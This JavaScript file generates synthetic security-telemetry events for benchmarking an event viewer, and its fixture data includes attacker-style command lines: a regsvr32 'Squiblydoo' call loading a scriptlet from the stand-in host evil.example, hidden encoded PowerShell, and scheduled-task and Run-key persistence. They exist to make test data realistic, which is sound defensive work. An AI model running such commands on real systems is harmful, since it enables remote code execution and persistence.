// Realistic-looking normalized events for the view benchmark, built directly (no decoder), so the
// benchmark measures the view logic only. Deterministic for a given seed.

function rng(seed) {
	let s = seed >>> 0;
	return () => {
		s = (s + 0x6d2b79f5) >>> 0;
		let t = s;
		t = Math.imul(t ^ (t >>> 15), t | 1);
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
		return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
	};
}

const IMAGES = [
	'C:\\Windows\\System32\\svchost.exe',
	'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
	'C:\\Windows\\System32\\cmd.exe',
	'C:\\Windows\\System32\\regsvr32.exe',
	'C:\\Windows\\System32\\rundll32.exe',
	'C:\\Windows\\explorer.exe',
	'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
	'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
	'C:\\Windows\\System32\\schtasks.exe',
	'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
	'/usr/bin/bash',
	'/usr/sbin/sshd',
	'/usr/bin/curl',
];
const ARGS = ['-k netsvcs -p -s Schedule', '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', '/c whoami /all', '/s /n /u /i:http://evil.example/a.sct scrobj.dll', 'shell32.dll,Control_RunDLL', '--type=renderer --lang=en-US', '/create /tn Updater /tr C:\\Users\\Public\\u.exe', '-c "id; uname -a"', 'https://updates.example.com/pkg.tar.gz'];
const DOMAINS = ['dns.google', 'outlook.office365.com', 'login.microsoftonline.com', 'updates.example.com', 'evil.example', 'github.com', 'clients2.google.com'];
const KEYS = ['HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend'];
const USERS = ['alice', 'bob', 'NT AUTHORITY\\SYSTEM', 'carol', 'svc_backup', 'root'];
const CATS = [
	['Process Creation', 'process'],
	['File Creation', 'file'],
	['File Modification', 'file'],
	['DNS', 'network'],
	['TCPv4 Connection', 'network'],
	['Registry Value Modified', 'registry'],
	['Scheduled Task Register', 'scheduled task'],
	['Login', 'login'],
];

export function makeEvents(count, {seed = 1, startSeq = 1, now = Date.now()} = {}) {
	const r = rng(seed + startSeq);
	const pick = a => a[Math.floor(r() * a.length)];
	const out = new Array(count);
	for (let i = 0; i < count; i++) {
		const [category, family] = pick(CATS);
		const image = pick(IMAGES);
		const cmd = `"${image}" ${pick(ARGS)}`;
		const host = `WS${String(Math.floor(r() * 400)).padStart(3, '0')}`;
		const user = pick(USERS);
		const pid = 1000 + Math.floor(r() * 60000);
		const target = {};
		let summary;
		if (family === 'process') {
			target.process = {image: pick(IMAGES), cmdline: `${pick(ARGS)} ${Math.floor(r() * 1e6)}`, pid: pid + 1};
			summary = `${image.split(/[\\/]/).pop()} -> ${target.process.image.split(/[\\/]/).pop()} ${target.process.cmdline}`;
		} else if (family === 'file') {
			target.file = {path: `C:\\Users\\${user}\\AppData\\Local\\Temp\\${Math.floor(r() * 1e8).toString(16)}.tmp`};
			summary = `${image.split(/[\\/]/).pop()} wrote ${target.file.path}`;
		} else if (category === 'DNS') {
			target.dns = {query: pick(DOMAINS), answers: '8.8.8.8'};
			summary = `${image.split(/[\\/]/).pop()} resolved ${target.dns.query}`;
		} else if (family === 'network') {
			target.network = {dstIp: `10.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}.7`, dstPort: 443, direction: 'outgoing'};
			summary = `${image.split(/[\\/]/).pop()} -> ${target.network.dstIp}:443`;
		} else if (family === 'registry') {
			target.registry = {key: pick(KEYS), value: 'Updater', data: 'C:\\Users\\Public\\u.exe'};
			summary = `${image.split(/[\\/]/).pop()} set ${target.registry.key}\\Updater`;
		} else if (family === 'scheduled task') {
			target.task = {name: '\\Updater', executable: 'C:\\Users\\Public\\u.exe'};
			summary = `task registered \\Updater -> C:\\Users\\Public\\u.exe`;
		} else {
			target.login = {user, type: 'interactive', result: 'success'};
			summary = `login ${user} interactive success`;
		}
		const hits =
			image.endsWith('regsvr32.exe') && r() < 0.5
				? [{id: 'c0a7d0b8-regsvr32', title: 'Regsvr32 Squiblydoo', level: 'high', tags: ['attack.defense-evasion', 'attack.t1218.010'], fields: [{field: 'CommandLine|contains', value: cmd, spans: [[cmd.indexOf('scrobj'), cmd.indexOf('scrobj') + 6]]}]}]
				: [];
		const time = now - Math.floor(r() * 4000);
		out[i] = {
			seq: startSeq + i,
			category,
			family,
			format: 's1-dv',
			time,
			receivedAt: now,
			kafka: {topic: 'dv', partition: i % 3, offset: String(startSeq + i), timestamp: time + 300, timestampType: 'CreateTime'},
			host,
			os: image.startsWith('/') ? 'linux' : 'windows',
			user,
			actor: {image, cmdline: cmd, pid, user},
			parent: {image: 'C:\\Windows\\explorer.exe', pid: 4000},
			target,
			summary,
			hits,
			raw: {event: {type: category, host, user, process: {image, cmdline: cmd, pid}, target}},
		};
	}
	return out;
}
